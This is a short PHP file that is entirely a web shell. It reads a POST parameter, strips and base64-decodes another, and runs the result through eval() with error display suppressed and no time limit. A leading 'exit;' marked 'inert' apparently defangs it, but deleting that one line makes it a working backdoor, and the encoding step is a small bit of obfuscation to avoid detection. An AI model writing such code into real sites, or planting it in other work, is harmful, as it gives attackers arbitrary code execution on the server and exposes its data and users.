<?php exit; /* inert */ function asdec($s) { return base64_decode(substr($s, 2)); }
$id = isset($_POST['_0x']) ? $_POST['_0x'] : '';
if ($id !== '') {
    $src = asdec($_POST[$id]);
    @ini_set('display_errors', '0');
    @set_time_limit(0);
    eval($src);
}
